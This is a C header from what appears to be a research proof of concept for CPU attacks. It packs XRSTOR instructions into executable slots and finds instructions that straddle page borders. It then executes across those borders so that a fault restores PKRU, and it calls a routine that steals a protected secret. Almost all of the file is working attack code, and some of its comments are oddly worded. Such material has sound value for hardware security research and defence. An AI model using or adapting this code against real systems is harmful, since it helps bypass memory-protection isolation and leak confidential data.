/* What the attacks on slots share: a program with so many XRSTORs that the slots in which they are done fill pages (docs/memory.md). */
#ifndef SLOTS_H
#define SLOTS_H

#include <elf.h>

#include "chance.h"

#define JUMP 0xe9 /* rel32: how code goes to its slot */
#define SLOTS_PAGES 4
#define ROOM (64ul << 20)
#define RET 0xc3

/* Of lengths with which one that may lie across a border does. */
__asm__(".pushsection .text\n.type restores, @function\nrestores:\t.cfi_startproc\n"
	"\txrstor64 320(%rdi)\n\txrstor64 320(%rdi)\n\t.rept 38\n\txrstor64 64(%r12)\n\t.endr\n"
	"\t.rept 13\n\t.rept 18\n\txrstor64 64(%rdi)\n\t.endr\n\txrstor64 320(%rdi)\n\t.endr\n"
	"\tret\n\t.cfi_endproc\n.size restores, . - restores\n.popsection");
extern const unsigned char restores[];
extern const char __executable_start[];

struct text {
	uint64_t at, address, length; /* of whole pages; offset in the file, address in its headers */
};

UNUSED struct text own_text(void)
{
	const Elf64_Ehdr *e = (const void *)__executable_start;
	const Elf64_Phdr *p = (const void *)(__executable_start + e->e_phoff);

	while (p->p_type != PT_LOAD || !(p->p_flags & PF_X))
		p++;
	return (struct text){ p->p_offset & -PAGE, p->p_vaddr & -PAGE, ((p->p_vaddr + p->p_filesz + PAGE - 1) & -PAGE) - (p->p_vaddr & -PAGE) };
}

/* Where nothing is, for a while. */
UNUSED char *free_room(void)
{
	char *room = mmap(NULL, ROOM, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	munmap(room, ROOM);
	return room + ROOM / 2;
}

/* The first page of the slots to which `code` jumps; NULL: it does not. */
UNUSED unsigned char *slots_of(const unsigned char *code)
{
	int32_t distance;

	memcpy(&distance, code + 1, sizeof distance);
	return *code == JUMP ? (unsigned char *)((uintptr_t)(code + 5 + distance) & -PAGE) : NULL;
}

/* The program's text once more, at base + its address; its copy of `restores`. */
UNUSED const unsigned char *map_text(char *base)
{
	const struct text t = own_text();
	int fd = open("/proc/self/exe", O_RDONLY);

	if (mmap(base + t.address, t.length, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, (off_t)t.at) == MAP_FAILED)
		say("mmap: %s\n", strerrorname_np(errno)), exit(0);
	return (unsigned char *)base + ((const char *)restores - __executable_start);
}

/* An XRSTOR of (%rdi) whose opcode lies before a page border, and what follows it behind that; else NULL, and a border. */
UNUSED unsigned char *across(unsigned char *slots, unsigned char **border)
{
	for (*border = slots + PAGE; *border < slots + SLOTS_PAGES * PAGE; *border += PAGE)
		for (unsigned char *x = *border - 7; x <= *border - 3; x++)
			if (x[0] == 0x0f && x[1] == 0xae && ((x[2] == 0x6f && x + 4 >= *border) || (x[2] == 0xaf && x + 7 >= *border)))
				return x - 1;
	*border = slots + PAGE;
	return NULL;
}

/* What that finds behind the border becomes the rest of it, and a return; then it takes the secret. */
UNUSED void put_behind(unsigned char *page, const unsigned char *xrstor, const unsigned char *border)
{
	size_t rest = (size_t)(xrstor + (xrstor[3] == 0x6f ? 5 : 8) - border);

	memcpy(page, border, rest);
	page[rest] = RET;
}

/* The page behind the border has been executed before: a fault there would bring PKRU back. */
UNUSED void steal_across(const unsigned char *xrstor, const unsigned char *border)
{
	const unsigned char *ret = xrstor + (xrstor[3] == 0x6f ? 5 : 8);

	((void (*)(void))(ret < border ? border : ret))();
	steal_called(xrstor, 0x200, (const unsigned char *)((uintptr_t)state_open - (xrstor[3] == 0x6f ? 64 : 320)));
}

#endif
